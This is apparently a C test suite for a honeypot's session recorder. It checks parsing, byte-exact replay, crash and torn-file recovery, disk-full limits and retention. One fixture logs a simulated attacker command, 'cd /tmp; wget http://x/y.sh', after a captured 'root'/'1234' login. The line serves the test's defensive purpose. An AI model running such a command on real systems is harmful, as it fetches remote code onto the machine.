/* recordings: what is told is read again, whole, by the list, live, found, and bounded */
#include "recording_kit.h"

#include <signal.h>
#include <sys/resource.h>
#include <sys/wait.h>

#include "observe/registry_numbers.h"

static void numbers(void **state)
{
	static const struct {
		const char *text;
		uint64_t want; /* 0 = refused */
	} cases[] = {
		{ "1.1", 1 << 24 | 1 },
		{ "12.345", UINT64_C(12) << 24 | 345 },
		{ "1.16777215", 1 << 24 | 16777215 },
		{ "1.16777216", 0 },
		{ "1.0", 0 },
		{ "0.1", 0 },
		{ "7", 0 },
		{ "", 0 },
		{ "1.", 0 },
		{ ".1", 0 },
		{ "1.2.3", 0 },
		{ "-1.2", 0 },
		{ "99999999999999999999999999999999999999.1", 0 },
	};
	(void)state;
	for (size_t k = 0; k < HIN_COUNT(cases); k++) {
		uint64_t got = 0;
		enum hin_code code = hin_recording_number_parse(&got, cases[k].text, NULL);
		char text[HIN_RECORDING_NUMBER_TEXT];

		if ((code == HIN_OK) != (cases[k].want != 0) || got != cases[k].want)
			fail_msg("%s", cases[k].text);
		if (code == HIN_OK)
			assert_string_equal(hin_recording_number_format(text, got), cases[k].text);
	}
}

static void round_trip(void **state)
{
	struct hin_buffer text = { 0 };
	struct hin_recording_entry entry;
	struct hin_recordings *recordings;
	struct hin_recording_check check;
	uint64_t a, b;
	struct kit kit;

	(void)state;
	kit_begin(&kit);
	a = kit_session(&kit, 1, NOON);
	b = kit_session(&kit, 2, NOON + 5);
	kit_say(&kit, a, NOON + 10, HIN_TO_CLIENT, "SSH-2.0-OpenSSH_9.2\r\n");
	kit_say(&kit, b, NOON + 20, HIN_TO_CLIENT, "login: ");
	kit_say(&kit, a, NOON + 30, HIN_FROM_CLIENT, "SSH-2.0-Go\r\n");
	kit_flush(&kit, NOON + 40);
	kit_tell(&kit, a, NOON + 50, HIN_EVENT_CREDENTIAL, "root", "1234", 1, HIN_VERDICT_SUCCESS);
	kit_say(&kit, b, NOON + 45, HIN_FROM_CLIENT, "root\r\n"); /* its own clock: no matter */
	kit_tell(&kit, a, NOON + 60, HIN_EVENT_COMMAND, "cd /tmp; wget http://x/y.sh", NULL, 0, 0);
	kit_over(&kit, a, NOON + 70);
	kit_over(&kit, b, NOON + 80);
	kit_say(&kit, a, NOON + 90, HIN_TO_CLIENT, "after its end");
	kit_flush(&kit, NOON + 100);

	recordings = kit_read(&kit);
	assert_int_equal(kit_text(recordings, a, &text), HIN_EOF);
	assert_string_equal(hin_buffer_text(&text), ">SSH-2.0-OpenSSH_9.2\r\n<SSH-2.0-Go\r\n"
						    "!5:root,1234!9:cd /tmp; wget http://x/y.sh,");
	hin_buffer_reset(&text);
	assert_int_equal(kit_text(recordings, b, &text), HIN_EOF);
	assert_string_equal(hin_buffer_text(&text), ">login: <root\r\n");
	assert_int_equal(hin_recordings_find(recordings, a, &entry, NULL), HIN_OK);
	assert_int_equal(entry.about.time_us, NOON);
	assert_int_equal(entry.end_us, NOON + 70);
	assert_int_equal(entry.flags, HIN_RECORDING_LOGIN);
	assert_int_equal(entry.why, HIN_CLOSE_CLIENT);
	assert_int_equal(entry.from_client, 12);
	assert_int_equal(entry.to_client, 21);
	assert_int_equal(entry.credentials, 1);
	assert_int_equal(entry.commands, 1);
	assert_string_equal(entry.about.host, "fileserver");
	assert_string_equal(entry.about.persona, "debian12");
	assert_int_equal(entry.about.client_port, 40000);
	assert_int_equal(hin_recordings_find(recordings, a + 7, &entry, NULL), HIN_ENOENT);
	assert_int_equal(hin_recordings_find(recordings, UINT64_C(9) << 24 | 1, &entry, NULL),
			 HIN_ENOENT);
	hin_recordings_close(recordings);
	kit_check(&kit, &check, NULL, NULL);
	assert_int_equal(check.whole, 2);
	assert_int_equal(check.bad + check.damaged_segments + check.unsealed, 0);
	hin_buffer_fini(&text);
	kit_end(&kit);
}

/* What was said of many kinds and sizes comes back, byte for byte, though strings are shared. */
static void every_byte(void **state)
{
	enum { SESSIONS = 40, ROUNDS = 30 };
	struct hin_buffer want[SESSIONS] = { { 0 } }, have = { 0 };
	uint64_t number[SESSIONS], seed = 12345;
	struct hin_recordings *recordings;
	uint8_t block[5000];
	struct kit kit;

	(void)state;
	kit_begin(&kit);
	for (unsigned s = 0; s < SESSIONS; s++)
		number[s] = kit_session(&kit, s, NOON + s);
	for (unsigned round = 0; round < ROUNDS; round++) {
		for (unsigned s = 0; s < SESSIONS; s++) {
			size_t size, from;

			seed = seed * UINT64_C(6364136223846793005) + 1442695040888963407;
			size = seed >> 40 & 0xfff;
			from = seed >> 20 & 0x3f;
			for (size_t k = 0; k < size; k++) /* much alike, never quite */
				block[k] = (uint8_t)((k + from) % 251 * 7 +
						     ((k + from) % 97 == 0 ? seed >> 8 : 0));
			hin_recorder_bytes(kit.recorder, number[s], NOON + round, round % 3,
					   round % 2 ? HIN_TO_CLIENT : HIN_FROM_CLIENT, block,
					   size);
			if (size > 0)
				hin_buffer_putc(&want[s], round % 2 ? '>' : '<');
			hin_buffer_add(&want[s], block, size);
		}
		if (round % 7 == 0)
			kit_flush(&kit, NOON + round);
	}
	kit_close(&kit, NOON + 100);
	recordings = kit_read(&kit);
	for (unsigned s = 0; s < SESSIONS; s++) {
		hin_buffer_reset(&have);
		assert_int_equal(kit_text(recordings, number[s], &have), HIN_EOF);
		assert_int_equal(have.used, want[s].used);
		assert_memory_equal(have.data, want[s].data, have.used);
		hin_buffer_fini(&want[s]);
	}
	hin_recordings_close(recordings);
	hin_buffer_fini(&have);
	kit_remove(kit.folder);
}

/* Times that a broken teller gives are bent, and nothing else is. */
static void odd_times(void **state)
{
	static const int64_t times[] = {
		INT64_MIN, INT64_MAX, 0, -1, NOON, INT64_MAX / 4, NOON - 1
	};
	struct hin_buffer text = { 0 };
	struct hin_recording_check check;
	struct hin_recordings *recordings;
	uint64_t numbers[HIN_COUNT(times)];
	struct kit kit;

	(void)state;
	kit_begin(&kit);
	(void)kit_session(&kit, 1, NOON);
	for (unsigned k = 0; k < HIN_COUNT(times); k++) {
		numbers[k] = kit_session(&kit, 1, times[k]);
		for (unsigned j = 0; j < HIN_COUNT(times); j++)
			kit_say(&kit, numbers[k], times[j], HIN_TO_CLIENT, "x");
		kit_over(&kit, numbers[k], times[k]);
	}
	kit_close(&kit, NOON + 1);
	recordings = kit_read(&kit);
	for (unsigned k = 0; k < HIN_COUNT(times); k++) {
		hin_buffer_reset(&text);
		assert_int_equal(kit_text(recordings, numbers[k], &text), HIN_EOF);
		assert_string_equal(hin_buffer_text(&text), ">x>x>x>x>x>x>x");
	}
	hin_recordings_close(recordings);
	kit_check(&kit, &check, NULL, NULL);
	assert_int_equal(check.whole, HIN_COUNT(times) + 1);
	assert_int_equal(check.bad + check.damaged_segments, 0);
	hin_buffer_fini(&text);
	kit_remove(kit.folder);
}

/* ---- death ---- */

/* A process that is killed: what was flushed is there, the rest is cut. */
static void killed(void **state)
{
	struct hin_buffer text = { 0 };
	struct hin_recording_check check;
	struct hin_recordings *recordings;
	struct hin_recording_entry entry;
	uint64_t numbers_seen[2] = { 0 };
	int status, pipe_fd[2];
	struct kit kit;
	pid_t child;

	(void)state;
	kit_begin(&kit);
	kit_close(&kit, NOON);
	assert_int_equal(pipe(pipe_fd), 0);
	child = fork();
	if (child == 0) {
		kit_open(&kit, NOON + 1);
		numbers_seen[0] = kit_session(&kit, 1, NOON + 1);
		numbers_seen[1] = kit_session(&kit, 2, NOON + 1);
		kit_say(&kit, numbers_seen[0], NOON + 2, HIN_FROM_CLIENT, "acknowledged");
		kit_say(&kit, numbers_seen[1], NOON + 2, HIN_FROM_CLIENT, "this one ended");
		kit_over(&kit, numbers_seen[1], NOON + 3);
		/* written, not sealed */
		(void)hin_recorder_run(kit.recorder, NOON + 600000);
		kit_say(&kit, numbers_seen[0], NOON + 700000, HIN_FROM_CLIENT, "not yet");
		if (write(pipe_fd[1], numbers_seen, sizeof(numbers_seen)) < 0)
			_exit(1);
		kill(getpid(), SIGKILL);
	}
	assert_int_equal(read(pipe_fd[0], numbers_seen, sizeof(numbers_seen)),
			 sizeof(numbers_seen));
	close(pipe_fd[0]);
	close(pipe_fd[1]);
	assert_int_equal(waitpid(child, &status, 0), child);
	assert_true(WIFSIGNALED(status));
	kit_open(&kit, NOON + 1000000);
	assert_int_equal(hin_recorder_stats(kit.recorder).cut, 1);
	assert_int_equal(hin_recorder_stats(kit.recorder).sealed, 2);
	recordings = kit_read(&kit);
	assert_int_equal(kit_text(recordings, numbers_seen[0], &text), HIN_EOF);
	assert_string_equal(hin_buffer_text(&text), "<acknowledged");
	assert_int_equal(hin_recordings_find(recordings, numbers_seen[0], &entry, NULL), HIN_OK);
	assert_int_equal(entry.flags, HIN_RECORDING_CUT);
	assert_int_equal(hin_recordings_find(recordings, numbers_seen[1], &entry, NULL), HIN_OK);
	assert_int_equal(entry.flags, 0);
	assert_int_equal(entry.why, HIN_CLOSE_CLIENT);
	hin_recordings_close(recordings);
	kit_check(&kit, &check, NULL, NULL);
	assert_int_equal(check.whole, 2);
	assert_int_equal(check.bad + check.damaged_segments, 0);
	hin_buffer_fini(&text);
	kit_end(&kit);
}

/* Record for ever, and tell which sessions were acknowledged. */
static void record_for_ever(struct kit *kit, int tell)
{
	for (int64_t now_us = NOON;; now_us += 1000) {
		uint64_t numbers[3];

		for (unsigned k = 0; k < 3; k++) {
			numbers[k] = kit_session(kit, k, now_us);
			kit_say(kit, numbers[k], now_us, HIN_TO_CLIENT,
				"what everybody is told who comes");
			kit_say(kit, numbers[k], now_us, HIN_FROM_CLIENT, "acknowledged");
			if (k > 0)
				kit_over(kit, numbers[k], now_us);
		}
		kit_flush(kit, now_us);
		kit_say(kit, numbers[0], now_us, HIN_FROM_CLIENT, "perhaps");
		if (write(tell, numbers, sizeof(numbers)) != sizeof(numbers))
			_exit(1);
		kit_over(kit, numbers[0], now_us);
	}
}

/* Killed at any moment, again and again: nothing that was acknowledged is missing. */
static void killed_anywhere(void **state)
{
	enum { ROUNDS = HIN_TEST_SLOW ? 8 : 20 };
	uint64_t numbers[3], last[3] = { 0 };
	struct hin_recording_check check;
	struct hin_recordings *recordings;
	struct hin_buffer text = { 0 };
	unsigned acknowledged = 0;
	int pipe_fd[2], status;
	struct kit kit;
	pid_t child;

	(void)state;
	kit_begin(&kit);
	kit_close(&kit, NOON);
	for (unsigned round = 0; round < ROUNDS; round++) {
		unsigned wanted = 1 + round * 7 % 23;

		assert_int_equal(pipe(pipe_fd), 0);
		child = fork();
		if (child == 0) {
			kit_open(&kit, NOON);
			record_for_ever(&kit, pipe_fd[1]);
		}
		close(pipe_fd[1]);
		while (wanted > 0 && read(pipe_fd[0], numbers, sizeof(numbers)) == sizeof(numbers))
			wanted--;
		kill(child, SIGKILL);
		assert_int_equal(waitpid(child, &status, 0), child);
		assert_int_equal(wanted, 0);
		do {
			acknowledged++;
			memcpy(last, numbers, sizeof(last));
		} while (read(pipe_fd[0], numbers, sizeof(numbers)) == sizeof(numbers));
		close(pipe_fd[0]);
		kit_open(&kit, NOON + 1);
		recordings = kit_read(&kit);
		for (unsigned k = 0; k < 3; k++) {
			hin_buffer_reset(&text);
			assert_int_equal(kit_text(recordings, last[k], &text), HIN_EOF);
			assert_non_null(strstr(hin_buffer_text(&text),
					       ">what everybody is told who comes<acknowledged"));
		}
		hin_recordings_close(recordings);
		kit_close(&kit, NOON + 2);
	}
	kit_check(&kit, &check, NULL, NULL);
	assert_true(check.whole >= acknowledged * 3);
	assert_int_equal(check.bad + check.damaged_segments + check.unsealed, 0);
	hin_buffer_fini(&text);
	kit_remove(kit.folder);
}

/* Cut the .hrec of a dead recorder at every byte: it is opened again, and all that is whole stays.
 */
static void torn_anywhere(void **state)
{
	struct hin_buffer rec = { 0 }, keys = { 0 }, seals = { 0 }, text = { 0 };
	char rec_path[PATH_MAX], key_path[PATH_MAX], seal_path[PATH_MAX], torn[PATH_MAX + 8];
	uint64_t first, second;
	size_t whole;
	struct kit kit;

	(void)state;
	kit_begin(&kit);
	first = kit_session(&kit, 1, NOON + 1);
	kit_say(&kit, first, NOON + 2, HIN_FROM_CLIENT, "flushed and sealed");
	kit_over(&kit, first, NOON + 3);
	kit_flush(&kit, NOON + 4);
	kit_file(&kit, ".hrec", 0, rec_path);
	kit_file(&kit, ".hkey", 0, key_path);
	kit_file(&kit, ".hseal", 0, seal_path);
	kit_load(rec_path, &rec);
	whole = rec.used;
	second = kit_session(&kit, 2, NOON + 5);
	kit_say(&kit, second, NOON + 6, HIN_FROM_CLIENT, "torn");
	kit_flush(&kit, NOON + 7);
	kit_load(rec_path, &rec);
	kit_load(key_path, &keys);
	kit_load(seal_path, &seals);
	kit_close(&kit, NOON + 8);
	for (size_t size = whole; size <= rec.used; size++) {
		struct hin_recording_check check;
		struct hin_recordings *recordings;

		kit_store(rec_path, rec.data, size);
		kit_store(key_path, keys.data, keys.used);
		kit_store(seal_path, seals.data, seals.used);
		kit_open(&kit, NOON + 9);
		assert_int_equal(hin_recorder_stats(kit.recorder).torn_bytes,
				 size < rec.used ? size - whole : 0);
		kit_close(&kit, NOON + 10);
		kit_check(&kit, &check, NULL, NULL);
		assert_int_equal(check.whole, size < rec.used ? 1 : 2);
		assert_int_equal(check.bad + check.damaged_segments + check.unsealed, 0);
		recordings = kit_read(&kit);
		hin_buffer_reset(&text);
		assert_int_equal(kit_text(recordings, first, &text), HIN_EOF);
		assert_string_equal(hin_buffer_text(&text), "<flushed and sealed");
		hin_recordings_close(recordings);
		snprintf(torn, sizeof(torn), "%.*s.torn", (int)strlen(rec_path) - 5, rec_path);
		assert_int_equal(access(torn, F_OK) == 0, size > whole && size < rec.used);
		unlink(torn);
	}
	hin_buffer_fini(&rec);
	hin_buffer_fini(&keys);
	hin_buffer_fini(&seals);
	hin_buffer_fini(&text);
	kit_remove(kit.folder);
}

/* A segment that was closed is never written again, whatever was put behind its seals. */
static void closed_is_left_alone(void **state)
{
	struct hin_buffer before = { 0 }, after = { 0 };
	char rec_path[PATH_MAX], seal_path[PATH_MAX];
	struct hin_recording_check check;
	uint64_t number;
	struct kit kit;
	int fd;

	(void)state;
	kit_begin(&kit);
	number = kit_session(&kit, 1, NOON + 1);
	kit_say(&kit, number, NOON + 2, HIN_FROM_CLIENT, "sealed");
	kit_close(&kit, NOON + 3);
	kit_file(&kit, ".hrec", 0, rec_path);
	kit_file(&kit, ".hseal", 0, seal_path);
	fd = open(seal_path, O_WRONLY | O_APPEND);
	assert_int_equal(write(fd, "something", 9), 9);
	close(fd);
	kit_load(rec_path, &before);
	kit_open(&kit, NOON + 4);
	assert_int_equal(hin_recorder_stats(kit.recorder).torn_bytes, 0);
	(void)kit_session(&kit, 2, NOON + 5);
	kit_close(&kit, NOON + 6);
	kit_load(rec_path, &after);
	assert_int_equal(before.used, after.used);
	assert_memory_equal(before.data, after.data, before.used);
	kit_check(&kit, &check, NULL, NULL);
	assert_int_equal(check.whole, 2);
	assert_int_equal(check.bad, 0);
	assert_int_equal(check.damaged_segments, 1);
	hin_buffer_fini(&before);
	hin_buffer_fini(&after);
	kit_remove(kit.folder);
}

/* ---- limits and a full disk ---- */

static void limits(void **state)
{
	struct hin_buffer text = { 0 };
	struct hin_recordings *recordings;
	struct hin_recorder_stats stats;
	struct hin_recording_entry entry;
	uint64_t a, b, c;
	struct kit kit;

	(void)state;
	kit_begin(&kit);
	kit.settings.session_bytes = 20;
	kit.settings.source_bytes = 30;
	hin_recorder_settings(kit.recorder, &kit.settings);
	a = kit_session(&kit, 1, NOON);
	kit_say(&kit, a, NOON, HIN_FROM_CLIENT, "0123456789");
	kit_say(&kit, a, NOON, HIN_FROM_CLIENT, "0123456789ab"); /* over its own */
	kit_say(&kit, a, NOON, HIN_FROM_CLIENT, "kept again");
	b = kit_session(&kit, 1, NOON);
	kit_say(&kit, b, NOON, HIN_FROM_CLIENT, "9876543210");
	kit_say(&kit, b, NOON, HIN_FROM_CLIENT, "x"); /* over the source's */
	c = kit_session(&kit, 2, NOON);
	kit_say(&kit, c, NOON, HIN_FROM_CLIENT, "y");
	kit_over(&kit, a, NOON);
	kit_over(&kit, b, NOON);
	kit_over(&kit, c, NOON);
	kit_flush(&kit, NOON);
	stats = hin_recorder_stats(kit.recorder);
	assert_int_equal(stats.limited_bytes, 13);
	assert_int_equal(stats.lost_bytes, 0);
	recordings = kit_read(&kit);
	assert_int_equal(kit_text(recordings, a, &text), HIN_EOF);
	assert_string_equal(hin_buffer_text(&text), "<0123456789?12<kept again");
	hin_buffer_reset(&text);
	assert_int_equal(kit_text(recordings, b, &text), HIN_EOF);
	assert_string_equal(hin_buffer_text(&text), "<9876543210?1");
	assert_int_equal(hin_recordings_find(recordings, b, &entry, NULL), HIN_OK);
	assert_int_equal(entry.flags, HIN_RECORDING_GAPS);
	assert_int_equal(entry.missing, 1);
	hin_recordings_close(recordings);
	/* a new day is a new account */
	a = kit_session(&kit, 1, NOON + INT64_C(86400000000));
	kit_say(&kit, a, NOON + INT64_C(86400000000), HIN_FROM_CLIENT, "z");
	assert_int_equal(hin_recorder_stats(kit.recorder).limited_bytes, 13);
	hin_buffer_fini(&text);
	kit_end(&kit);
}

static void no_more_than(rlim_t bytes)
{
	struct rlimit limit = { bytes, RLIM_INFINITY };

	assert_int_equal(setrlimit(RLIMIT_FSIZE, &limit), 0);
}

/* The disk takes nothing for a while: what fits into memory comes later, the rest is a gap. */
static void full_disk(void **state)
{
	struct hin_buffer text = { 0 };
	struct hin_recording_check check;
	struct hin_recordings *recordings;
	struct hin_recorder_stats stats;
	struct hin_error err = { 0 };
	char big[3000];
	uint64_t a, b;
	struct kit kit;

	(void)state;
	memset(big, 'x', sizeof(big) - 1);
	big[sizeof(big) - 1] = '\0';
	for (size_t k = 0; k < sizeof(big) - 1; k++)
		big[k] = (char)('a' + (k * k + k / 7) % 26);
	signal(SIGXFSZ, SIG_IGN);
	kit_begin(&kit);
	kit.settings.memory_bytes = 4000;
	hin_recorder_settings(kit.recorder, &kit.settings);
	a = kit_session(&kit, 1, NOON);
	kit_say(&kit, a, NOON, HIN_FROM_CLIENT, "before");
	kit_flush(&kit, NOON + 1);
	no_more_than(300);
	kit_say(&kit, a, NOON + 2, HIN_FROM_CLIENT, big);
	assert_int_equal(hin_recorder_flush(kit.recorder, NOON + 3, &err), HIN_ESYS);
	assert_true(hin_recorder_stats(kit.recorder).blocked);
	kit_say(&kit, a, NOON + 4, HIN_FROM_CLIENT, big); /* no room in memory */
	kit_say(&kit, a, NOON + 5, HIN_FROM_CLIENT, "small");
	(void)hin_recorder_run(kit.recorder, NOON + 1000000);
	stats = hin_recorder_stats(kit.recorder);
	assert_true(stats.blocked);
	assert_true(stats.write_errors >= 2);
	assert_int_equal(stats.lost_bytes, sizeof(big) - 1);
	no_more_than(RLIM_INFINITY);
	kit_say(&kit, a, NOON + 6, HIN_FROM_CLIENT, "after");
	kit_over(&kit, a, NOON + 7);
	kit_flush(&kit, NOON + 2000000);
	assert_false(hin_recorder_stats(kit.recorder).blocked);
	b = kit_session(&kit, 1, NOON + 3000000);
	kit_over(&kit, b, NOON + 3000001);
	kit_flush(&kit, NOON + 3000002);
	recordings = kit_read(&kit);
	assert_int_equal(kit_text(recordings, a, &text), HIN_EOF);
	assert_memory_equal(text.data, "<before<", 8);
	assert_memory_equal(text.data + 8, big, sizeof(big) - 1);
	assert_string_equal(text.data + 8 + sizeof(big) - 1, "?2999<small<after");
	hin_recordings_close(recordings);
	kit_check(&kit, &check, NULL, NULL);
	assert_int_equal(check.whole, 2);
	assert_int_equal(check.bad + check.damaged_segments, 0);
	hin_buffer_fini(&text);
	kit_end(&kit);
}

/* The disk takes chunks but no seal for a while: it comes later, and the chain is one. */
static void full_before_seal(void **state)
{
	struct hin_recording_check check;
	struct hin_error err = { 0 };
	uint8_t before[32], after[32];
	uint64_t a, number;
	struct kit kit;

	(void)state;
	signal(SIGXFSZ, SIG_IGN);
	kit_begin(&kit);
	assert_false(hin_recorder_head(kit.recorder, &number, before));
	a = kit_session(&kit, 1, NOON);
	kit_over(&kit, a, NOON + 1);
	no_more_than(200);
	assert_int_equal(hin_recorder_flush(kit.recorder, NOON + 2, &err), HIN_ESYS);
	assert_false(hin_recorder_head(kit.recorder, &number, before));
	kit_check(&kit, &check, NULL, NULL);
	assert_int_equal(check.unsealed, 1);
	assert_int_equal(check.bad + check.damaged_segments, 0);
	assert_int_equal(hin_recorder_flush(kit.recorder, NOON + 3, &err), HIN_ESYS);
	no_more_than(RLIM_INFINITY);
	kit_flush(&kit, NOON + 4);
	assert_true(hin_recorder_head(kit.recorder, &number, before));
	assert_int_equal(number, 1);
	a = kit_session(&kit, 1, NOON + 5);
	kit_over(&kit, a, NOON + 6);
	kit_flush(&kit, NOON + 7);
	assert_true(hin_recorder_head(kit.recorder, &number, after));
	assert_int_equal(number, 2);
	kit_check(&kit, &check, NULL, NULL);
	assert_int_equal(check.whole, 2);
	assert_int_equal(check.bad + check.damaged_segments, 0);
	assert_int_equal(check.head, 2);
	assert_memory_equal(check.head_digest, after, 32);
	kit_end(&kit);
}

/* No segment can be made: the session goes on unrecorded, and that is counted. */
static void no_segment(void **state)
{
	struct hin_recording_about about = kit_about(1, NOON);
	uint64_t number = 5;
	uint8_t digest[32];
	struct kit kit;

	(void)state;
	signal(SIGXFSZ, SIG_IGN);
	kit_begin(&kit);
	no_more_than(10);
	assert_int_equal(hin_recorder_begin(kit.recorder, &about, &number), HIN_ESYS);
	assert_int_equal(number, 0);
	kit_say(&kit, number, NOON, HIN_FROM_CLIENT, "nobody hears it");
	assert_false(hin_recorder_end(kit.recorder, number, NOON, HIN_CLOSE_CLIENT, digest));
	assert_int_equal(hin_recorder_stats(kit.recorder).refused, 1);
	no_more_than(RLIM_INFINITY);
	number = kit_session(&kit, 1, NOON);
	assert_int_equal(number >> 24, 1);
	kit_end(&kit);
}

/* ---- segments ---- */

static void days_and_retention(void **state)
{
	const int64_t day = INT64_C(86400000000);
	struct hin_recording_check check;
	struct hin_recorder_stats stats;
	uint64_t number, long_one;
	struct kit kit;

	(void)state;
	kit_begin(&kit);
	long_one = kit_session(&kit, 9, NOON);
	for (int64_t k = 0; k < 6; k++) {
		number = kit_session(&kit, 1, NOON + k * day);
		assert_int_equal(number >> 24, k + 1);
		kit_say(&kit, number, NOON + k * day, HIN_FROM_CLIENT, "a day");
		kit_say(&kit, long_one, NOON + k * day, HIN_FROM_CLIENT, "goes on");
		kit_over(&kit, number, NOON + k * day);
		kit_flush(&kit, NOON + k * day + 1);
	}
	stats = hin_recorder_stats(kit.recorder);
	assert_int_equal(stats.segments, 6);
	kit_check(&kit, &check, NULL, NULL);
	assert_int_equal(check.whole, 6);
	assert_int_equal(check.unsealed, 1);
	assert_int_equal(check.bad + check.damaged_segments, 0);
	assert_true(check.head >= 6);
	/* the first is held open; those of days 2 and 3 are too old */
	kit.settings.max_age_ns = 3 * day * 1000 + 1000;
	hin_recorder_settings(kit.recorder, &kit.settings);
	(void)hin_recorder_run(kit.recorder, NOON + 5 * day + 60000000);
	stats = hin_recorder_stats(kit.recorder);
	assert_int_equal(stats.expired_segments, 1);
	kit_over(&kit, long_one, NOON + 5 * day + 60000000);
	kit_flush(&kit, NOON + 5 * day + 60000001);
	kit.settings.max_bytes = 1;
	hin_recorder_settings(kit.recorder, &kit.settings);
	(void)hin_recorder_run(kit.recorder, NOON + 5 * day + 200000000);
	stats = hin_recorder_stats(kit.recorder);
	assert_int_equal(stats.segments, 1); /* the one that is written */
	kit_close(&kit, NOON + 5 * day + 200000000);
	kit_check(&kit, &check, NULL, NULL);
	assert_int_equal(check.whole, 1);
	assert_int_equal(check.bad + check.damaged_segments, 0);
	kit_remove(kit.folder);
}

/* More segments are held open than may be: the sessions of the oldest are ended. */
static void too_many_open(void **state)
{
	struct hin_recordings *recordings;
	struct hin_recording_entry entry;
	uint64_t first = 0;
	struct kit kit;

	(void)state;
	kit_begin(&kit);
	kit.settings.segment_bytes = 1;
	hin_recorder_settings(kit.recorder, &kit.settings);
	for (int64_t k = 0; k < 20; k++) {
		uint64_t number = kit_session(&kit, 1, NOON + k * 1000000);

		if (first == 0)
			first = number;
		(void)hin_recorder_run(kit.recorder, NOON + k * 1000000);
	}
	(void)hin_recorder_run(kit.recorder, NOON + 40000000);
	assert_int_equal(hin_recorder_stats(kit.recorder).running, 16);
	kit_flush(&kit, NOON + 50000000);
	recordings = kit_read(&kit);
	assert_int_equal(hin_recordings_find(recordings, first, &entry, NULL), HIN_OK);
	assert_int_equal(entry.why, HIN_CLOSE_LIMIT);
	assert_int_equal(entry.flags, 0);
	hin_recordings_close(recordings);
	kit_end(&kit);
}

static void one_recorder(void **state)
{
	struct hin_recorder *other = NULL;
	struct hin_error err = { 0 };
	char path[PATH_MAX], away[PATH_MAX + 8];
	struct kit kit;

	(void)state;
	kit_begin(&kit);
	assert_int_equal(hin_recorder_open(&other, kit.folder, &kit.settings, &kit.key, NOON, &err),
			 HIN_EDENIED);
	assert_null(other);
	(void)kit_session(&kit, 1, NOON);
	kit_close(&kit, NOON + 1);
	/* without its key nothing is made anew in silence */
	snprintf(path, sizeof(path), "%s/recording.key", kit.folder);
	snprintf(away, sizeof(away), "%s.away", path);
	assert_int_equal(rename(path, away), 0);
	assert_int_equal(hin_recorder_open(&other, kit.folder, &kit.settings, &kit.key, NOON, &err),
			 HIN_EVERIFY);
	assert_int_equal(rename(away, path), 0);
	assert_int_equal(chmod(path, 0644), 0);
	assert_int_equal(hin_recorder_open(&other, kit.folder, &kit.settings, &kit.key, NOON, &err),
			 HIN_EDENIED);
	assert_int_equal(chmod(path, 0600), 0);
	kit_open(&kit, NOON + 2);
	kit_end(&kit);
}

int main(void)
{
	const struct CMUnitTest tests[] = {
		cmocka_unit_test(numbers),
		cmocka_unit_test(round_trip),
		cmocka_unit_test(every_byte),
		cmocka_unit_test(odd_times),
		cmocka_unit_test(killed),
		cmocka_unit_test(killed_anywhere),
		cmocka_unit_test(torn_anywhere),
		cmocka_unit_test(closed_is_left_alone),
		cmocka_unit_test(limits),
		cmocka_unit_test(full_disk),
		cmocka_unit_test(full_before_seal),
		cmocka_unit_test(no_segment),
		cmocka_unit_test(days_and_retention),
		cmocka_unit_test(too_many_open),
		cmocka_unit_test(one_recorder),
	};

	return cmocka_run_group_tests(tests, NULL, NULL);
}
